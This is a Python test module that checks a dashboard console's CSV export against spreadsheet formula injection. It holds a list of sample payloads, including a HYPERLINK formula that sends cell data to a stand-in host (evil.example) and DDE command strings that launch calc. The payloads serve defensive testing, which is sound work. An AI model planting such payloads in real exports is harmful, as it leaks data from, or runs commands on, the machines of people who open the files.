"""Formulas in CSV exports: a spreadsheet would execute them for whoever opens it."""

from __future__ import annotations

import csv
import io
from functools import partial

import pandas as pd

from dashboards.console.view import to_csv
from verification.attacks.case import Attacks, Finding
from verification.attacks.target import AttackedPlatform

attacks = Attacks()

_BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n")
"""Characters that spreadsheets take for the start of a formula, or skip before one."""

_FORMULAS = {
    "a formula": '=HYPERLINK("https://evil.example/?"&A1)',
    "a command": "=cmd|'/C calc'!A0",
    "a plus": "+1+1",
    "a minus": "-1+cmd|' /C calc'!A0",
    "an at sign": "@SUM(1,1)",
    "a tabulator before": "\t=1+1",
    "a line break before": "\r\n=1+1",
    "blanks before": "  =1+1",
    "a wide equals sign": "\uff1d1+1",
    "a quote before": '"=1+1',
}


def _exported(text: str, _: AttackedPlatform) -> str:
    """Export a table of the console with this text in a cell, a heading and a row name."""
    table = pd.DataFrame({"name": [text], text: [1]}, index=[text])
    written = to_csv(table).decode()
    cells = [cell for row in csv.reader(io.StringIO(written, newline="")) for cell in row]
    bad = [cell for cell in cells if cell.startswith(_BEGINNINGS) or cell.lstrip()[:1] in ("=", "\uff1d", "+", "@")]
    return f"{bad[0]!r}" if bad else ""


for _name, _text in _FORMULAS.items():
    attacks.add(Finding.EXPORTS, f"exported from the console: {_name}", partial(_exported, _text))
